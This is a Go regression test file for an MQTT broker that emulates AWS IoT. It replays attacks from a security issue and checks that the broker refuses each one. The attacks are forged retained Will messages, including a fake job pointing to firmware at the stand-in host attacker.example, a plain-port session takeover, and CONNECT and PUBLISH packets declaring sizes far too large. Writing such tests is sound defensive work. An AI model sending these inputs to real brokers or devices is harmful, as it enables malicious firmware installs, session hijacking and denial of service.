package mqtt_test

import (
	"bufio"
	"bytes"
	"io"
	"net"
	"runtime"
	"testing"
	"time"

	"github.com/eclipse/paho.golang/paho"
	"github.com/mochi-mqtt/server/v2/packets"

	"github.com/otactl/otactl/local"
	"github.com/otactl/otactl/local/mqtt"
)

// One regression test per attack of issue 9.

// retainedNone asserts the store keeps no retained message.
func retainedNone(t *testing.T, e *env) {
	t.Helper()
	ms, err := local.MQTTRetained{St: e.st}.RetainedMessages()
	if err != nil || len(ms) != 0 {
		t.Fatalf("retained messages in the store: %+v, %v", ms, err)
	}
}

// TestForgedWill: a device with its own valid certificate CONNECTs with a
// retained Will on another thing's jobs/notify-next (a fake job) or on a
// stream's data/json (a forged block). The CONNECT is refused (0x87; 3.1.1
// return code 5), nothing is published and nothing retained.
func TestForgedWill(t *testing.T) {
	e := newEnv(t, mqtt.Config{})
	e.thing("victim", "attacker")
	e.stream("s1", body(1000))
	victim := deviceCert(t, e, "victim", true)
	attacker := deviceCert(t, e, "attacker", true) // the thing-scoped policy
	v, _, err := dialConnect(t, e.broker.TLSAddr(), victim, &paho.Connect{ClientID: "victim", CleanStart: true})
	if err != nil {
		t.Fatal(err)
	}
	v.sub("$aws/things/victim/jobs/notify-next", "$aws/things/victim/streams/s1/data/json")

	fake := []byte(`{"execution":{"jobId":"evil","jobDocument":{"url":"http://attacker.example/fw.bin"}}}`)
	for _, topic := range []string{"$aws/things/victim/jobs/notify-next", "$aws/things/victim/streams/s1/data/json"} {
		_, ack, err := dialConnect(t, e.broker.TLSAddr(), attacker, &paho.Connect{ClientID: "attacker", CleanStart: true,
			WillMessage: &paho.WillMessage{Topic: topic, Retain: true, QoS: 1, Payload: fake}})
		refused(t, "retained Will on "+topic, ack, err)
		// Not retained either: a Will a policy would allow is still no
		// retained message on a reserved topic.
		_, ack, err = dialConnect(t, e.broker.TLSAddr(), victim, &paho.Connect{ClientID: "victim-2", CleanStart: true,
			WillMessage: &paho.WillMessage{Topic: topic, Retain: true, Payload: fake}})
		refused(t, "retained Will on a reserved topic", ack, err)
	}
	// MQTT 3.1.1 on the plain port, with the development policy: return code 5.
	c := raw311(t, e.broker.Addr())
	c.send(packets.Packet{FixedHeader: packets.FixedHeader{Type: packets.Connect}, Connect: packets.ConnectParams{
		ProtocolName: []byte("MQTT"), ClientIdentifier: "attacker", Keepalive: 60, Clean: true,
		WillFlag: true, WillRetain: true, WillTopic: "$aws/things/victim/jobs/notify-next", WillPayload: fake}})
	if ack := c.read(); ack.FixedHeader.Type != packets.Connack || ack.ReasonCode != 5 {
		t.Fatalf("3.1.1 forged Will: %+v, want CONNACK 5", ack)
	}

	// A policy that allows everything: the Will may be connected with, but
	// a Will on a topic the broker serves is never relayed.
	e.pols.set(certID(attacker), doc(allow(`"iot:*"`, `"*"`)))
	a, _, err := dialConnect(t, e.broker.TLSAddr(), attacker, &paho.Connect{ClientID: "attacker", CleanStart: true,
		WillMessage: &paho.WillMessage{Topic: "$aws/things/victim/jobs/notify-next", QoS: 1, Payload: fake}})
	if err != nil {
		t.Fatal(err)
	}
	a.conn.Close() // gone without DISCONNECT: the Will is due
	v.sync("victim")
	if n := v.drain(); n != 0 {
		t.Fatalf("the victim received %d forged messages", n)
	}
	retainedNone(t, e)
	// A new subscription gets nothing retained.
	v.sub("$aws/things/victim/jobs/notify-next")
	v.sync("victim")
	if n := v.drain(); n != 0 {
		t.Fatalf("a new subscription received %d messages", n)
	}
}

// raw311 opens a plain connection for hand-made MQTT 3.1.1 packets.
func raw311(t *testing.T, addr string) *v311 {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	conn.SetDeadline(time.Now().Add(wait))
	return &v311{t: t, conn: conn, r: bufio.NewReader(conn)}
}

// TestPlainTakeover: a plain-port CONNECT with the client id of a
// mutual-TLS session is refused, and the TLS session stays.
func TestPlainTakeover(t *testing.T) {
	e := newEnv(t, mqtt.Config{})
	e.thing("dev-1")
	e.job("job-1", doc1, "dev-1")
	d, _, err := dialConnect(t, e.broker.TLSAddr(), deviceCert(t, e, "dev-1", true), &paho.Connect{ClientID: "dev-1", CleanStart: true})
	if err != nil {
		t.Fatal(err)
	}
	_, ack, err := dialConnect(t, e.broker.Addr(), nil, &paho.Connect{ClientID: "dev-1", CleanStart: true})
	refused(t, "plain CONNECT as a TLS client", ack, err)
	if _, code := dial311(t, e.broker.Addr(), "dev-1"); code != 5 {
		t.Fatalf("3.1.1 plain CONNECT as a TLS client: return code %d, want 5", code)
	}
	d.pub("$aws/things/dev-1/jobs/$next/get", nil)
	if m := d.nextJSON("$aws/things/dev-1/jobs/$next/get/accepted"); field(m, "execution", "jobId") != "job-1" {
		t.Fatalf("TLS session after the attempt: %v", m)
	}
}

// allocated runs f and returns how many bytes the process allocated
// meanwhile (runtime.MemStats.TotalAlloc: every allocation counts, even one
// collected since).
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// declare writes a packet's fixed header declaring size bytes and a little
// of the body, then waits until the server closes the connection.
func declare(t *testing.T, conn net.Conn, kind byte, size int) {
	t.Helper()
	hdr := []byte{kind}
	for n := size; ; {
		b := byte(n & 0x7f)
		n >>= 7
		if n > 0 {
			b |= 0x80
		}
		hdr = append(hdr, b)
		if n == 0 {
			break
		}
	}
	conn.Write(append(hdr, bytes.Repeat([]byte{0}, 1024)...))
	if _, err := io.Copy(io.Discard, conn); err != nil && !isReset(err) {
		t.Fatalf("reading until the server closes: %v", err)
	}
}

func isReset(err error) bool {
	ne, ok := err.(*net.OpError)
	return ok && ne.Op == "read"
}

// TestOversizedConnect: CONNECT packets declaring 64 MiB close the
// connection before the body is read; the server allocates nothing like it.
func TestOversizedConnect(t *testing.T) {
	e := newEnv(t, mqtt.Config{})
	n := allocated(func() {
		for i := 0; i < 4; i++ {
			conn, err := net.Dial("tcp", e.broker.Addr())
			if err != nil {
				t.Fatal(err)
			}
			declare(t, conn, 0x10, 64<<20)
			conn.Close()
		}
	})
	if n > 16<<20 {
		t.Fatalf("4 CONNECTs declaring 64 MiB: the process allocated %d MiB", n>>20)
	}
}

// TestOversizedPublish: after a good CONNECT, PUBLISH packets declaring
// 100 MiB close the connection without being read.
func TestOversizedPublish(t *testing.T) {
	e := newEnv(t, mqtt.Config{})
	n := allocated(func() {
		for i := 0; i < 2; i++ {
			c, code := dial311(t, e.broker.Addr(), "dev-1")
			if code != 0 {
				t.Fatalf("CONNACK %d", code)
			}
			declare(t, c.conn, 0x30, 100<<20)
		}
	})
	if n > 16<<20 {
		t.Fatalf("2 PUBLISHes declaring 100 MiB: the process allocated %d MiB", n>>20)
	}
	// A message of 128 KiB and one byte is refused too (AWS's limit).
	c, _ := dial311(t, e.broker.Addr(), "dev-1")
	c.send(packets.Packet{FixedHeader: packets.FixedHeader{Type: packets.Publish}, TopicName: "$aws/things/dev-1/x",
		Payload: make([]byte, 128<<10+1)})
	if pk := c.read(); pk.FixedHeader.Type != 0 {
		t.Fatalf("after a 128 KiB + 1 payload: packet type %d, want the connection closed", pk.FixedHeader.Type)
	}
}
